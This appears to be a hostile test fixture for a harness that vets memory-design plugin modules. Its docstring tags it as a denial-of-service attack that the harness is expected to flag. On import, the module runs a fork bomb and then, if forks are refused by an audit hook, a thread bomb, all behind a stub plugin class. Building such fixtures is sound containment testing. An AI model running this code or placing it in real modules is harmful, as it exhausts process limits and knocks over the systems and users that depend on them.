# ruff: noqa
"""A fork bomb at import time: os.fork in a loop; when the audit hook refuses forks, a thread bomb (threads
count against the pids limit too), each thread starting more threads.
ATTACK: dos
WHERE: module
EXPECT-OUTCOME: pids_exhausted
EXPECT-VERDICT: hostile
PASSES-VALIDATOR: no
"""

import os
import threading
import time

from harness.design import MemoryDesign


def _bomb():
    while True:
        try:
            threading.Thread(target=_bomb, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


try:
    while True:
        os.fork()
except OSError:
    pass
_bomb()


class DosForkBombModule(MemoryDesign):
    async def retrieve(self, task):
        return {}

    async def update(self, episode):
        return None
